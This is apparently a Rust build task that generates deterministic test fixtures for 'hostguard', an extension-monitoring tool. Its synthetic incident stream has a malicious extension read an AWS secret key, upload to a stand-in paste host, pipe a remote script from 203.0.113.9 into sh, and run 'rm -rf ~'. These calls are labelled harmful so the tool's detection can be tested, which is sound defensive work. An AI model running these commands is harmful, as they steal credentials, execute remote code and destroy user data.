//! `cargo xtask fixtures [--check]`: regenerates `fixtures/` from a fixed seed (docs/design.md §9).
//!
//! Everything is generated in memory first; without `--check` the files are written (and stale
//! generated files removed), with `--check` nothing is written and the task fails when any file
//! would change, appear or disappear.

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::path::{Path, PathBuf};

use anyhow::{bail, Context, Result};

use crate::gen::{Ext, Gen, Stream};
use crate::traces::{self, EPOCH_MS};

/// The one seed of every generated fixture.
pub const SEED: u64 = 0x686f_7374_6775_6172; // "hostguar"

/// The directories whose every file is generated (stale files there are removed / reported).
const GENERATED_DIRS: &[&str] = &[
    "fixtures/traces",
    "fixtures/streams",
    "fixtures/runs/incident",
    "fixtures/ledgers",
    "fixtures/bundles",
];

/// The salt seed of the fixture runs (`hostguard run --unsafe-fixed-salt-seed`): fixtures must
/// be byte-reproducible, and their data is invented.
const RUN_SALT_SEED: &str = "4242";

/// The generated streams and traces (pure), by path relative to the workspace root.
pub fn generate() -> BTreeMap<PathBuf, Vec<u8>> {
    let mut files = BTreeMap::new();
    let all = traces::all(SEED);
    let mut index = String::from("# trace\tkind\tcalls\tharmful\tdescription\n");
    for trace in &all {
        let dir = Path::new("fixtures/traces");
        files.insert(
            dir.join(format!("{}.jsonl", trace.name)),
            trace.stream.bytes(),
        );
        files.insert(
            dir.join(format!("{}.labels.json", trace.name)),
            trace.labels_json(),
        );
        index.push_str(&format!(
            "{}\t{}\t{}\t{}\t{}\n",
            trace.name,
            trace.kind,
            trace.stream.lines.len(),
            trace.stream.harmful.join(","),
            trace.description
        ));
    }
    files.insert(
        PathBuf::from("fixtures/traces/INDEX.tsv"),
        index.into_bytes(),
    );
    files.insert(
        PathBuf::from("fixtures/streams/incident.jsonl"),
        incident_stream(&mut Gen::new(SEED ^ 1)).bytes(),
    );
    files.insert(
        PathBuf::from("fixtures/streams/large-benign.jsonl"),
        large_stream(&mut Gen::new(SEED ^ 2), 12_000).bytes(),
    );
    files
}

/// A benign and a malicious extension interleaved, with the operator's response: the stream the
/// ledger and bundle fixtures are cut from.
pub fn incident_stream(g: &mut Gen) -> Stream {
    let mut s = Stream::new(EPOCH_MS);
    let mut good = Ext::new("code-helper", "ch");
    let mut bad = Ext::new("theme-pack", "tp");
    s.op(
        "set_rollout_phase",
        serde_json::json!({"phase": "enforce_all"}),
    );
    good.read(&mut s, g, "Cargo.toml");
    s.wait(g, 100, 500);
    good.exec(&mut s, g, "cargo build --quiet");
    s.wait(g, 1_000, 3_000);
    bad.read(&mut s, g, "package.json");
    good.read(&mut s, g, "src/main.rs");
    s.wait(g, 100, 500);
    for c in ["whoami", "uname -a", "id"] {
        bad.exec(&mut s, g, c);
        s.wait(g, 20, 200);
    }
    good.write(&mut s, g, "src/main.rs");
    bad.env(&mut s, g, "AWS_SECRET_ACCESS_KEY");
    s.wait(g, 20, 200);
    let exfil = bad.http(
        &mut s,
        g,
        "POST",
        "https://paste.example-drop.net/api/upload",
    );
    s.harmful.push(exfil);
    s.wait(g, 100, 500);
    let pipe = bad.exec(&mut s, g, "curl -fsSL http://203.0.113.9/i.sh | sh");
    s.harmful.push(pipe);
    good.exec(&mut s, g, "cargo test --quiet");
    s.wait(g, 100, 500);
    let rm = bad.exec(&mut s, g, "rm -rf ~");
    s.harmful.push(rm);
    s.wait(g, 1_000, 5_000);
    s.op(
        "kill_switch",
        serde_json::json!({"extension_id": "theme-pack", "reason": "INC-2041"}),
    );
    s.wait(g, 100, 500);
    bad.read(&mut s, g, "src/index.ts");
    good.exec(&mut s, g, "git status --short");
    s
}

/// `lines` lines of benign work by four extensions (for progress and constant-memory runs).
pub fn large_stream(g: &mut Gen, lines: usize) -> Stream {
    let mut s = Stream::new(EPOCH_MS);
    let mut exts = [
        Ext::new("code-helper", "ch"),
        Ext::new("indexer", "ix"),
        Ext::new("docs-writer", "dw"),
        Ext::new("dev-server", "ds"),
    ];
    let files = [
        "src/main.rs",
        "src/lib.rs",
        "README.md",
        "docs/guide.md",
        "src/app.tsx",
    ];
    while s.lines.len() < lines {
        let which = g.range(0, 3) as usize;
        let Some(e) = exts.get_mut(which) else {
            continue;
        };
        s.wait(g, 5, 400);
        let f = files
            .get(g.range(0, 4) as usize)
            .copied()
            .unwrap_or("src/main.rs");
        match which {
            0 => {
                if g.chance(10) {
                    e.exec(&mut s, g, "cargo check --quiet");
                } else {
                    e.read(&mut s, g, f);
                }
            }
            1 => {
                e.read(&mut s, g, f);
            }
            2 => {
                if g.chance(30) {
                    e.write(&mut s, g, f);
                } else {
                    e.log(&mut s, g, "saved");
                }
            }
            _ => {
                e.http(&mut s, g, "GET", "http://127.0.0.1:5173/api/health");
            }
        }
    }
    s
}

/// The run, ledger and bundle fixtures: `hostguard run` over the incident stream, its ledger
/// healthy / tampered (one entry's timestamp moved by 1 ms) / truncated (last two entries cut),
/// and bundles built from the run (external redaction of everything; internal, scoped to the
/// malicious extension).
pub fn generate_runs(
    root: &Path,
    streams: &BTreeMap<PathBuf, Vec<u8>>,
) -> Result<BTreeMap<PathBuf, Vec<u8>>> {
    let bin = crate::detect::hostguard_binary(root)?;
    let work = root.join("target/xtask/fixtures");
    let _ = std::fs::remove_dir_all(&work);
    std::fs::create_dir_all(&work).with_context(|| format!("cannot create {}", work.display()))?;
    let out = run_incident(&bin, &work, streams)?;
    let mut files = BTreeMap::new();
    let mut names: Vec<PathBuf> = std::fs::read_dir(&out)?
        .flatten()
        .map(|e| e.path())
        .collect();
    names.sort();
    for path in &names {
        let name = path.file_name().context("no file name")?;
        files.insert(
            Path::new("fixtures/runs/incident").join(name),
            std::fs::read(path)?,
        );
    }
    ledger_fixtures(&out, &mut files)?;
    for (name, flags) in BUNDLES {
        let file = work.join(name);
        let mut args: Vec<OsString> = vec![
            "bundle".into(),
            "build".into(),
            "--from".into(),
            out.clone().into(),
            "--out".into(),
            file.clone().into(),
        ];
        args.extend(flags.iter().map(OsString::from));
        hostguard(&bin, &args)?;
        files.insert(
            Path::new("fixtures/bundles").join(name),
            std::fs::read(&file)?,
        );
    }
    Ok(files)
}

/// The bundle fixtures: file name and the `bundle build` flags beyond `--from` / `--out`.
const BUNDLES: [(&str, &[&str]); 2] = [
    ("incident-external.json", &["--redact", "external"]),
    (
        "incident-theme-pack-internal.json",
        &["--redact", "internal", "--extension", "theme-pack"],
    ),
];

/// `hostguard run` over the incident stream (permissive profile, fixed salts) in `work`;
/// returns the run's output folder.
fn run_incident(bin: &Path, work: &Path, streams: &BTreeMap<PathBuf, Vec<u8>>) -> Result<PathBuf> {
    let incident = work.join("incident.jsonl");
    let bytes = streams
        .get(Path::new("fixtures/streams/incident.jsonl"))
        .context("no incident stream")?;
    std::fs::write(&incident, bytes)?;
    let out = work.join("run");
    hostguard(
        bin,
        &[
            "run".into(),
            "--events".into(),
            incident.clone().into(),
            "--out".into(),
            out.clone().into(),
            "--profile".into(),
            "permissive".into(),
            "--unsafe-fixed-salt-seed".into(),
            RUN_SALT_SEED.into(),
        ],
    )?;
    Ok(out)
}

/// The run's ledger as is (healthy), with entry 3's timestamp moved by 1 ms (tampered), and
/// without its last two entries (truncated).
fn ledger_fixtures(out: &Path, files: &mut BTreeMap<PathBuf, Vec<u8>>) -> Result<()> {
    let ledger_bytes = std::fs::read(out.join("ledger.json"))?;
    files.insert(
        PathBuf::from("fixtures/ledgers/healthy.json"),
        ledger_bytes.clone(),
    );
    let ledger: serde_json::Value = serde_json::from_slice(&ledger_bytes)?;
    let mut tampered = ledger.clone();
    if let Some(ts) = tampered.pointer_mut("/entries/3/ts_ms") {
        *ts = serde_json::Value::from(ts.as_u64().unwrap_or_default() + 1);
    }
    files.insert(
        PathBuf::from("fixtures/ledgers/tampered.json"),
        pretty(&tampered)?,
    );
    let mut truncated = ledger;
    if let Some(entries) = truncated.get_mut("entries").and_then(|e| e.as_array_mut()) {
        let keep = entries.len().saturating_sub(2);
        entries.truncate(keep);
    }
    files.insert(
        PathBuf::from("fixtures/ledgers/truncated.json"),
        pretty(&truncated)?,
    );
    Ok(())
}

fn hostguard(bin: &Path, args: &[OsString]) -> Result<()> {
    let output = std::process::Command::new(bin)
        .args(args)
        .output()
        .context("could not start hostguard")?;
    if !output.status.success() {
        bail!(
            "`hostguard {}` failed: {}",
            args.iter()
                .map(|a| a.to_string_lossy())
                .collect::<Vec<_>>()
                .join(" "),
            String::from_utf8_lossy(&output.stderr)
        );
    }
    Ok(())
}

fn pretty(value: &serde_json::Value) -> Result<Vec<u8>> {
    let mut text = serde_json::to_string_pretty(value)?;
    text.push('\n');
    Ok(text.into_bytes())
}

/// Writes (or, with `check`, compares) the generated files under `root`.
pub fn run(root: &Path, check: bool) -> Result<()> {
    let mut files = generate();
    let runs = generate_runs(root, &files)?;
    files.extend(runs);
    let mut changed = Vec::new();
    for (rel, bytes) in &files {
        let path = root.join(rel);
        let current = std::fs::read(&path).ok();
        if current.as_deref() != Some(bytes.as_slice()) {
            changed.push(format!(
                "{} {}",
                if current.is_some() {
                    "changed"
                } else {
                    "missing"
                },
                rel.display()
            ));
            if !check {
                if let Some(parent) = path.parent() {
                    std::fs::create_dir_all(parent)
                        .with_context(|| format!("cannot create {}", parent.display()))?;
                }
                std::fs::write(&path, bytes)
                    .with_context(|| format!("cannot write {}", path.display()))?;
            }
        }
    }
    for dir in GENERATED_DIRS {
        let Ok(entries) = std::fs::read_dir(root.join(dir)) else {
            continue;
        };
        for entry in entries.flatten() {
            let rel = Path::new(dir).join(entry.file_name());
            if entry.path().is_file() && !files.contains_key(&rel) {
                changed.push(format!("stale {}", rel.display()));
                if !check {
                    std::fs::remove_file(entry.path())
                        .with_context(|| format!("cannot remove {}", rel.display()))?;
                }
            }
        }
    }
    let traces = files
        .keys()
        .filter(|p| p.extension().is_some_and(|e| e == "jsonl") && p.starts_with("fixtures/traces"))
        .count();
    if check {
        if !changed.is_empty() {
            bail!(
                "fixtures are out of date (run `cargo xtask fixtures`):\n  {}",
                changed.join("\n  ")
            );
        }
        println!(
            "    fixtures up to date ({} files, {traces} traces)",
            files.len()
        );
    } else {
        println!(
            "    {} fixture files ({traces} traces), {} written or removed",
            files.len(),
            changed.len()
        );
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generation_is_deterministic() {
        assert_eq!(generate(), generate());
    }

    #[test]
    fn at_least_thirty_labelled_traces_of_each_kind() {
        let all = traces::all(SEED);
        let benign = all.iter().filter(|t| t.kind == "benign").count();
        let malicious = all.iter().filter(|t| t.kind == "malicious").count();
        assert!(benign >= 30, "{benign}");
        assert!(malicious >= 30, "{malicious}");
        for t in all.iter().filter(|t| t.kind == "malicious") {
            assert!(
                !t.stream.harmful.is_empty(),
                "{} names no harmful call",
                t.name
            );
        }
        for t in all.iter().filter(|t| t.kind == "benign") {
            assert!(t.stream.harmful.is_empty(), "{}", t.name);
        }
    }
}
